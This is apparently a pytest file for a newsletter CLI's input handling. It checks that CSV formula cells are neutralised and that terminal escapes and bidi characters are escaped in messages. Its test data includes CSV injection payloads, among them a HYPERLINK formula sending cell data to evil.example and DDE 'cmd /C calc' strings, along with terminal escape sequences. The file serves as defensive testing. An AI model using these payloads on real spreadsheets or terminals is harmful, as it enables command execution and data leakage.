"""Hostile and broken inputs to the command line: lists, segments, suppression files, arguments, the disk.

Each case asserts the exact outcome: the message, the exit code, and that
nothing was written that must not be. No input may give a traceback.
"""

from __future__ import annotations

import errno
import os
import random
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

import soc_bulletin.render.build  # noqa: F401 - the module, for monkeypatching build_dir
from soc_bulletin.audience.subscribers import read_subscribers
from soc_bulletin.cli.main import describe_os_error, main
from soc_bulletin.errors import SenderFailure

from .conftest import ISSUE_11, MINIMAL_ISSUE, example_issues

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "subscribers" / "example.csv"
#: what may never reach the terminal raw: C0/C1 controls but newline, DEL, bidi and invisible characters
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
NEUTRALISED = ("cell(s) that a spreadsheet would run as a formula (starting with = + - @) were written "
               "with a ' in front; check those values.")


@pytest.fixture(autouse=True)
def _workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def run(*args: str, stdout: int | None = None) -> subprocess.CompletedProcess[str]:
    """The CLI in a child process (for what only a process shows: stdout on a full disk, a closed pipe)."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "soc_bulletin", *args], capture_output=stdout is None, stdout=stdout,
                          stderr=subprocess.PIPE if stdout is not None else None, text=True, env=env, timeout=120)


def no_traceback(*texts: str) -> None:
    for text in texts:
        assert "Traceback" not in text and "Exception ignored" not in text
        assert not RAW_CONTROL.search(text), f"raw control character in {text!r}"


# --- spreadsheets: formula cells are neutralised, and the count is said ----------------------------


@pytest.mark.parametrize(
    ("header", "row", "written"),
    [
        pytest.param("email,name", "jo@example.org,=1+2", "jo@example.org,'=1+2,,,", id="name-equals"),
        pytest.param("email,name", 'jo@example.org,"=HYPERLINK(""https://evil.example/?""&A1,""Click"")"',
                     'jo@example.org,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,,', id="name-hyperlink"),
        pytest.param("email,name", "jo@example.org,+44 20 7946 0000", "jo@example.org,'+44 20 7946 0000,,,", id="name-plus"),
        pytest.param("email,organisation", "jo@example.org,-2+3+cmd|' /C calc'!A0",
                     "jo@example.org,,'-2+3+cmd|' /C calc'!A0,,", id="organisation-minus-dde"),
        pytest.param("email,region", "jo@example.org,@SUM(1+1)*cmd|' /C calc'!A0",
                     "jo@example.org,,,'@SUM(1+1)*cmd|' /C calc'!A0,", id="region-at"),
        pytest.param("email,segments", "jo@example.org,=cmd", "jo@example.org,,,,'=cmd", id="segments-equals"),
        pytest.param("email,Notes", "jo@example.org,\t=1+2", "jo@example.org,,,,,'=1+2", id="extra-tab-then-formula"),
        pytest.param("email,name", "=cmd|'/Ccalc'!A0@example.org,Jo", "'=cmd|'/Ccalc'!A0@example.org,Jo,,,", id="email-dde"),
        pytest.param("email,name", "-x@example.org,Jo", "'-x@example.org,Jo,,,", id="email-minus"),
    ],
)
def test_import_neutralises_a_formula_cell(tmp_path: Path, capsys: pytest.CaptureFixture[str], header: str, row: str, written: str) -> None:
    (tmp_path / "list.csv").write_text(f"{header}\n{row}\n", encoding="utf-8")
    assert main(["subscribers", "import", "list.csv", "-o", "clean.csv"]) == 0
    extra = ",Notes" if "Notes" in header else ""
    assert (tmp_path / "clean.csv").read_text(encoding="utf-8") == f"email,name,organisation,region,segments{extra}\n{written}\n"
    assert capsys.readouterr().err == (
        "Wrote 1 subscribers to clean.csv; 0 invalid rows dropped, 0 duplicates merged.\n" f"1 {NEUTRALISED}\n"
    )


def test_import_counts_every_neutralised_cell_and_the_list_reads_back_the_same(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_text(
        "email,name,organisation,=1+1\n"
        "jo@example.org,=1+2,+Org,@x\n"
        "al@example.org,Al,Org,fine\n"
        "-bo@example.org,-Bo,\"-Multi\nline\",=2\n",
        encoding="utf-8",
    )
    assert main(["subscribers", "import", "list.csv"]) == 0
    captured = capsys.readouterr()
    assert captured.out == (
        "email,name,organisation,region,segments,'=1+1\n"
        "jo@example.org,'=1+2,'+Org,,,'@x\n"
        "al@example.org,Al,Org,,,fine\n"
        "'-bo@example.org,'-Bo,'-Multi line,,,'=2\n"
    )
    assert captured.err.endswith(f"\n8 {NEUTRALISED}\n")
    (tmp_path / "clean.csv").write_text(captured.out, encoding="utf-8")
    assert read_subscribers("clean.csv").subscribers == read_subscribers("list.csv").subscribers


def test_import_without_formula_cells_says_nothing_about_them(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "clean.csv"]) == 0
    assert "formula" not in capsys.readouterr().err


# --- subscriber lists that are damaged, binary or not what they seem --------------------------------


def test_a_stray_nul_byte_is_one_bad_row_not_utf16(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_bytes(b"email,name\njo@example.org,Jo\nal@exam\x00ple.org,Al\nbo@example.org,Bo\n")
    assert main(["subscribers", "check", "list.csv"]) == 1
    assert capsys.readouterr().out == (
        "list.csv:3: SB610 The record starting on this line holds a NUL byte (\\x00), which is not text; "
        "the file may be damaged: delete the byte or the row.\n"
        "3 rows: 2 valid, 1 invalid, 0 duplicates merged, 2 subscribers.\n"
    )


def test_a_block_of_zeros_from_a_damaged_disk_is_one_bad_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_bytes(b"email,name\njo@example.org,Jo\n" + b"\x00" * 4096)
    assert main(["subscribers", "import", "list.csv", "-o", "clean.csv"]) == 1
    assert capsys.readouterr().err.startswith("list.csv:3: SB610 The record starting on this line holds a NUL byte")
    assert (tmp_path / "clean.csv").read_text() == "email,name,organisation,region,segments\njo@example.org,Jo,,,\n"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_still_recognised(tmp_path: Path, capsys: pytest.CaptureFixture[str], encoding: str) -> None:
    (tmp_path / "list.csv").write_bytes("email,name\r\nzoe@example.org,Zoë 王\r\n".encode(encoding))
    assert main(["subscribers", "import", "list.csv"]) == 0
    assert capsys.readouterr().out == "email,name,organisation,region,segments\nzoe@example.org,Zoë 王,,,\n"


def test_binary_junk_is_reported_never_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_bytes(random.Random(11).randbytes(20_000))
    assert main(["subscribers", "import", "list.csv", "-o", "clean.csv"]) == 1
    captured = capsys.readouterr()
    no_traceback(captured.out, captured.err)
    assert captured.err.endswith("Nothing written.\n") and not (tmp_path / "clean.csv").exists()


def test_a_huge_field_is_one_bad_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_text(f"email,name\njo@example.org,{'J' * 200_000}\nal@example.org,Al\n")
    assert main(["subscribers", "check", "list.csv"]) == 1
    assert capsys.readouterr().out == (
        "list.csv:2: SB610 A field in the record starting on this line is too long; a quote (\") is probably never closed.\n"
        "2 rows: 1 valid, 1 invalid, 0 duplicates merged, 1 subscribers.\n"
    )


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        pytest.param(lambda p: p.mkdir(), "is a folder; give the file itself", id="a-folder"),
        pytest.param(lambda p: None, "does not exist; check the path", id="missing"),
    ],
)
def test_import_of_what_is_not_a_file_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str], make: object, reason: str) -> None:
    make(tmp_path / "list.csv")  # type: ignore[operator]
    assert main(["subscribers", "import", "list.csv", "-o", "clean.csv"]) == 2  # a path that is not a file: exit 2, as everywhere
    assert capsys.readouterr().err == f"soc-bulletin: error: list.csv {reason}\n"
    assert not (tmp_path / "clean.csv").exists()


def test_a_list_under_a_file_is_not_a_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "file").write_text("x")
    assert main(["subscribers", "check", "file/list.csv"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: file/list.csv does not exist; check the path\n"


def test_a_list_without_an_email_column_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "list.csv").write_text("name,=cmd\nJo,=1+2\n")
    assert main(["subscribers", "import", "list.csv", "-o", "clean.csv"]) == 1
    assert capsys.readouterr().err == (
        "list.csv:1: SB604 The header has no email column; name one column 'email' "
        "(also accepted: 'E-mail', 'Email Address', 'E-mail Address').\nNothing written.\n"
    )
    assert not (tmp_path / "clean.csv").exists()


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        pytest.param("\x1b]0;owned\x07jo@example.org", "\\x1b]0;owned\\x07jo@example.org", id="osc-title"),
        pytest.param("\x1b[2J\x1b[Hjo@example.org", "\\x1b[2J\\x1b[Hjo@example.org", id="clear-screen"),
        pytest.param("jo@\u202egro.elpmaxe", "jo@\\u202egro.elpmaxe", id="bidi-override"),
        pytest.param("jo\x9b31m@example.org", "jo\\x9b31m@example.org", id="c1-csi"),
    ],
)
def test_file_contents_echoed_in_problems_are_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str], cell: str, shown: str) -> None:
    (tmp_path / "list.csv").write_text(f"email,name\n{cell},Jo\n", encoding="utf-8")
    assert main(["subscribers", "check", "list.csv"]) == 1
    out = capsys.readouterr().out
    assert out.startswith(f"list.csv:2: SB612 '{shown}' is not a valid email address: ")
    no_traceback(out)


def test_a_file_name_that_is_not_utf8_is_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = os.fsdecode(b"list-\xff\x1b[31m.csv")  # what argv holds for a Latin-1 file name
    assert main(["subscribers", "check", name]) == 2
    out = capsys.readouterr().err
    assert out == "soc-bulletin: error: list-\\udcff\\x1b[31m.csv does not exist; check the path\n"


# --- import's output path ----------------------------------------------------------------------------


def test_import_to_a_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "out").mkdir()
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "out"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: out is a folder; give the name of the file to write, such as out/subscribers.csv\n"
    assert list((tmp_path / "out").iterdir()) == [] and [p.name for p in tmp_path.iterdir()] == ["out"]


def test_import_under_a_file_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "file").write_text("keep")
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "file/clean.csv"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: file/clean.csv: part of this path is a file, not a folder; choose a path inside a folder\n"
    )
    assert (tmp_path / "file").read_text() == "keep"


def test_import_into_a_missing_folder_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "nowhere/clean.csv"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: cannot write nowhere/clean.csv: the folder nowhere does not exist; create it or choose another path\n"
    )


def test_import_through_a_symlink_keeps_the_link(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "link.csv"]) == 0
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text().startswith("email,name,organisation,region,segments,role,language\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]


def test_import_onto_a_full_device_is_one_line_and_the_device_stays(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # a private copy of /dev/full (the tests run as root)
    assert main(["subscribers", "import", str(EXAMPLE), "-o", "full"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: no space left on the device for full; free some space and run again\n"
    assert stat.S_ISCHR(full.lstat().st_mode), "a device is written to, never replaced"


def test_standard_output_on_a_full_disk_is_one_line(tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        result = run("subscribers", "import", str(EXAMPLE), stdout=full.fileno())
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1] == (
        "soc-bulletin: error: no space left on the device for standard output; free some space and run again"
    )
    no_traceback(result.stderr)


def test_a_pipe_closed_early_is_quiet(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    big = tmp_path / "big.csv"
    big.write_text("email\n" + "".join(f"p{n}@example.org\n" for n in range(50_000)))
    with subprocess.Popen([sys.executable, "-m", "soc_bulletin", "subscribers", "import", str(big)],
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env) as child:
        assert child.stdout is not None and child.stderr is not None
        assert child.stdout.readline() == b"email,name,organisation,region,segments\n"
        child.stdout.close()
        err = child.stderr.read().decode()
        assert child.wait(timeout=120) == 141  # Exit.CLOSED_PIPE, as a shell reports SIGPIPE
    no_traceback(err)


# --- segments and suppression files given to the subscribers commands -------------------------------


def test_segments_that_is_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "segments.yaml").mkdir()
    assert main(["subscribers", "stats", str(EXAMPLE), "--segments", "segments.yaml"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: segments.yaml is a folder; give the file itself\n"


def test_segments_that_is_missing(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["subscribers", "check", str(EXAMPLE), "--segments", "nope.yaml"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: nope.yaml does not exist; check the path\n"


def test_segments_in_utf16(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "segments.yaml").write_bytes("police: {segments: [police]}\n".encode("utf-16"))
    assert main(["subscribers", "stats", str(EXAMPLE), "--segments", "segments.yaml"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("segments.yaml:1:1: SB001 ") and err.endswith("1 problem(s) found.\n")


def test_segments_of_binary_junk(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "segments.yaml").write_bytes(random.Random(7).randbytes(5000))
    assert main(["subscribers", "stats", str(EXAMPLE), "--segments", "segments.yaml"]) == 1
    captured = capsys.readouterr()
    no_traceback(captured.out, captured.err)
    assert captured.err.startswith("segments.yaml:") and captured.err.endswith("problem(s) found.\n")


def test_segment_names_with_escape_sequences_are_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "segments.yaml").write_text('"\\e[2J\\e]0;owned\\a": {segments: [police]}\n')
    assert main(["subscribers", "stats", str(EXAMPLE), "--segments", "segments.yaml"]) == 1
    assert capsys.readouterr().err == (
        "segments.yaml:1:1: SB631 The segment name '\\x1b[2J\\x1b]0;owned\\x07' may hold only letters, digits, '-', '_' "
        "and '.', such as 'police-wales'.\n1 problem(s) found.\n"
    )


def test_suppression_file_that_is_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "suppressed.csv").mkdir()
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "suppressed.csv"]) == 2
    assert capsys.readouterr().err == "soc-bulletin: error: suppressed.csv is a folder; give the file itself\n"


def test_suppression_file_named_but_missing_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "supressed.csv"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: the suppression list supressed.csv does not exist; check the path "
        "(leave --suppressed out for the default)\n"
    )


def test_suppression_file_without_an_address_column(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "suppressed.csv").write_text("who,why\njo@example.org,bounced\n")
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "suppressed.csv"]) == 1
    assert capsys.readouterr().err == (
        "suppressed.csv:1:1: SB640 The header has no 'address' column; name the first column 'address'.\n1 problem(s) found.\n"
    )


def test_suppression_file_with_a_nul_byte(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "suppressed.csv").write_bytes(b"address,reason\njo@example.org,bounced\nal@exa\x00mple.org,bounced\n")
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "suppressed.csv"]) == 1
    assert capsys.readouterr().err.startswith(
        "suppressed.csv:3:1: SB610 The record starting on this line holds a NUL byte (\\x00), which is not text"
    )


def test_suppression_file_in_utf16_without_bom(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first = read_subscribers(EXAMPLE).subscribers[0].email
    (tmp_path / "suppressed.csv").write_bytes(f"address,reason\r\n{first},bounced\r\n".encode("utf-16-le"))
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "suppressed.csv"]) == 0
    assert ["suppressed", "1"] in [line.split() for line in capsys.readouterr().out.splitlines()]


def test_suppressed_addresses_with_escapes_are_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "suppressed.csv").write_text("address,reason\n\x1b[2Jjo\x07@example.org,bounced\n", encoding="utf-8")
    assert main(["subscribers", "stats", str(EXAMPLE), "--suppressed", "suppressed.csv"]) == 0
    err = capsys.readouterr().err
    assert err.startswith("suppressed.csv:2: SB642 '\\x1b[2Jjo\\x07@example.org' is not a valid email address")
    no_traceback(err)


# --- command-line arguments and the filesystem ------------------------------------------------------


def test_build_output_that_is_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "out").write_text("keep")
    assert main(["build", str(ISSUE_11), "-o", "out"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: out already exists (a file where a folder is needed?); remove it or choose another path\n"
    )
    assert (tmp_path / "out").read_text() == "keep"


def test_build_output_under_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "file").write_text("keep")
    assert main(["build", str(ISSUE_11), "-o", "file/out"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: file/out: part of this path is a file, not a folder; choose a path inside a folder\n"
    )


def test_archive_output_that_is_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "site").write_text("keep")
    assert main(["archive", str(example_issues(tmp_path)), "-o", "site"]) == 2
    assert capsys.readouterr().err == (
        "soc-bulletin: error: site/2019-08: part of this path is a file, not a folder; choose a path inside a folder\n")
    assert (tmp_path / "site").read_text() == "keep"


@pytest.mark.parametrize("command", ["build", "subscribers"])
def test_output_where_the_system_refuses_permission(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    """sysfs refuses new files and folders even to root: a real permission error, not a simulated one."""
    target = "/sys/kernel/soc-bulletin-test"
    args = ["build", str(ISSUE_11), "-o", target] if command == "build" else ["subscribers", "import", str(EXAMPLE), "-o", target]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert re.fullmatch(
        rf"soc-bulletin: error: (permission denied for {target}|operation not permitted on {target}|{target} is on a read-only "
        r"filesystem)[;,].*\n", err,
    ), err
    assert not Path(target).exists()


@pytest.mark.parametrize(
    ("port", "shown"),
    [("abc", "'abc'"), ("-1", "'-1'"), ("65536", "'65536'"), ("99999999999999999999", "'99999999999999999999'"),
     ("8000\x1b[2J", "'8000\\x1b[2J'")],
)
def test_preview_port_nonsense_is_a_usage_error(capsys: pytest.CaptureFixture[str], port: str, shown: str) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["preview", str(ISSUE_11), "--port", port])
    assert caught.value.code == 2
    err = capsys.readouterr().err
    assert err.endswith(f"soc-bulletin preview: error: argument --port: invalid port value: {shown}\n")


def test_unknown_arguments_are_printable(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["build", str(ISSUE_11), "\x1b]0;owned\x07"])
    assert caught.value.code == 2
    err = capsys.readouterr().err
    assert err.endswith("soc-bulletin: error: unrecognized arguments: \\x1b]0;owned\\x07\n")
    no_traceback(err)


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        pytest.param(["build", "missing"], 2, "soc-bulletin: error: missing does not exist; give an issue folder such as issues/2019-08 "
                     "(soc-bulletin new-issue missing starts one)", id="build-missing"),
        pytest.param(["build", "file"], 2, "soc-bulletin: error: file is a file; give an issue folder such as issues/2019-08",
                     id="build-a-file"),
        pytest.param(["check", "missing"], 2, "soc-bulletin: error: missing: no such file or folder", id="check-missing"),
        pytest.param(["check", "\x1b[2Jgone"], 2, "soc-bulletin: error: \\x1b[2Jgone: no such file or folder", id="check-escape"),
        pytest.param(["new-article", "file", "new-thing", "--section", "S"], 2,
                     "soc-bulletin: error: file is a file; give an issue folder such as issues/2019-08", id="new-article-a-file"),
        pytest.param(["archive", "file", "-o", "site"], 2,
                     "soc-bulletin: error: file is a file; give the folder that holds the issue folders, such as issues", id="archive-a-file"),
        pytest.param(["archive", "issues", "-o", "site", "--config", "missing.toml"], 2,
                     "soc-bulletin: error: cannot read the settings file missing.toml: No such file or directory", id="config-missing"),
        pytest.param(["archive", "issues", "-o", "site", "--config", "folder"], 2,
                     "soc-bulletin: error: cannot read the settings file folder: Is a directory", id="config-a-folder"),
        pytest.param(["archive", "issues", "-o", "site", "--config", "file/x.toml"], 2,
                     "soc-bulletin: error: cannot read the settings file file/x.toml: Not a directory", id="config-under-a-file"),
    ],
)
def test_paths_that_are_not_what_they_should_be(tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], code: int, message: str) -> None:
    (tmp_path / "file").write_text("keep")
    (tmp_path / "folder").mkdir()
    example_issues(tmp_path)
    assert main(args) == code
    captured = capsys.readouterr()
    assert captured.err.splitlines()[0] == message
    no_traceback(captured.out, captured.err)
    assert not (tmp_path / "site").exists()


def test_check_prints_file_contents_printable(issue_dir: object, capsys: pytest.CaptureFixture[str]) -> None:
    root = issue_dir(MINIMAL_ISSUE, {"first": 'title: T\nblocks: []\n"\\e[2J\\u202e": x\n'})  # type: ignore[operator]
    assert main(["check", str(root)]) == 1
    out = capsys.readouterr().out
    no_traceback(out)
    assert "Unknown key '\\x1b[2J\\u202e'" in out


def test_check_json_keeps_the_value_and_escapes_it(issue_dir: object, capsys: pytest.CaptureFixture[str]) -> None:
    import json

    root = issue_dir(MINIMAL_ISSUE, {"first": 'title: T\nblocks: []\n"x\\u202ey\\x85": x\n'})  # type: ignore[operator]
    assert main(["check", str(root), "--format", "json"]) == 1
    out = capsys.readouterr().out
    no_traceback(out)
    messages = [problem["message"] for problem in json.loads(out)]
    assert any("x\u202ey\x85" in message or "x\\u202ey\\x85" in message for message in messages)


def test_build_errors_carrying_file_contents_are_printable(issue_dir: object, capsys: pytest.CaptureFixture[str]) -> None:
    root = issue_dir(MINIMAL_ISSUE, {"first": 'title: T\nblocks: []\n"\\e]0;owned\\a": x\n'})  # type: ignore[operator]
    assert main(["build", str(root), "-o", "out"]) == 1
    err = capsys.readouterr().err
    no_traceback(err)
    assert "Unknown key '\\x1b]0;owned\\x07'" in err


# --- the error boundary ---------------------------------------------------------------------------------


def test_a_server_reply_is_printed_printable(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise SenderFailure("the server refused the login: 535 \x1b[2J\x00\x1b]0;owned\x07 go away\u202e", code=535)

    monkeypatch.setattr(sys.modules["soc_bulletin.render.build"], "build_dir", refuse)
    assert main(["build", str(ISSUE_11)]) == 1
    assert capsys.readouterr().err == (
        "soc-bulletin: error: the server refused the login: 535 \\x1b[2J\\x00\\x1b]0;owned\\x07 go away\\u202e\n"
    )


def test_an_internal_error_is_one_line_saying_it_is_a_bug(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise ValueError("unexpected \x1b[31mthing\nin two lines")

    monkeypatch.setattr(sys.modules["soc_bulletin.render.build"], "build_dir", broken)
    assert main(["build", str(ISSUE_11)]) == 70
    assert capsys.readouterr().err == (
        "soc-bulletin: internal error (a bug, please report it): ValueError: unexpected \\x1b[31mthing in two lines; "
        "run again with --debug for the details\n"
    )


def test_debug_shows_the_traceback(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise KeyError("inner")

    monkeypatch.setattr(sys.modules["soc_bulletin.render.build"], "build_dir", broken)
    assert main(["--debug", "build", str(ISSUE_11)]) == 70
    err = capsys.readouterr().err
    assert err.startswith("Traceback (most recent call last):\n")
    assert "KeyError: 'inner'" in err
    assert err.endswith("soc-bulletin: error: internal error (a bug, please report it): KeyError\n")


@pytest.mark.parametrize(
    ("error", "message"),
    [
        pytest.param(OSError(errno.EROFS, "Read-only file system", "/mnt/ro/out"),
                     "/mnt/ro/out is on a read-only filesystem; choose a folder you can write to", id="read-only"),
        pytest.param(OSError(errno.ENOSPC, "No space left on device", "/var/out/index.html"),
                     "no space left on the device for /var/out/index.html; free some space and run again", id="no-space"),
        pytest.param(PermissionError(errno.EACCES, "Permission denied", "/srv/out"),
                     "permission denied for /srv/out; check its permissions and its folder's, or choose another path", id="permission"),
        pytest.param(IsADirectoryError(errno.EISDIR, "Is a directory", "/srv/out/index.html"),
                     "/srv/out/index.html is a folder, where a file is needed; give the path of a file", id="is-a-folder"),
        pytest.param(OSError(errno.ENOSPC, "No space left on device"),
                     "no space left on the device; free some space and run again", id="no-space-no-path"),
        pytest.param(OSError(errno.ENAMETOOLONG, "File name too long", "x" * 300),
                     f"{'x' * 300}: the name is too long; choose a shorter path", id="name-too-long"),
        pytest.param(OSError(errno.EISDIR, "Is a directory", ".tmp123", None, "out"),
                     "out is a folder, where a file is needed; give the path of a file", id="rename-names-the-target"),
        pytest.param(OSError(errno.EBADF, "Bad file descriptor", b"/x/\xff\x1b"),
                     "/x/\\udcff\\x1b: Bad file descriptor", id="other-bytes-path"),
    ],
)
def test_os_errors_become_one_line_exit_2(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], error: OSError, message: str) -> None:
    def fail(*args: object, **kwargs: object) -> None:
        raise error

    monkeypatch.setattr(sys.modules["soc_bulletin.render.build"], "build_dir", fail)
    assert main(["build", str(ISSUE_11)]) == 2
    assert capsys.readouterr().err == f"soc-bulletin: error: {message}\n"


def test_describe_os_error_names_the_path() -> None:
    assert describe_os_error(FileNotFoundError(errno.ENOENT, "No such file or directory", "a.csv")) == "a.csv does not exist; check the path"


def test_a_real_missing_file_in_a_subprocess_never_gives_a_traceback(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    result = run("build", str(ISSUE_11), "-o", str(tmp_path / "file" / "out"))
    assert result.returncode == 2
    assert result.stderr == (
        "soc-bulletin: error: file/out: part of this path is a file, not a folder; choose a path inside a folder\n"  # relative to the working folder
    )
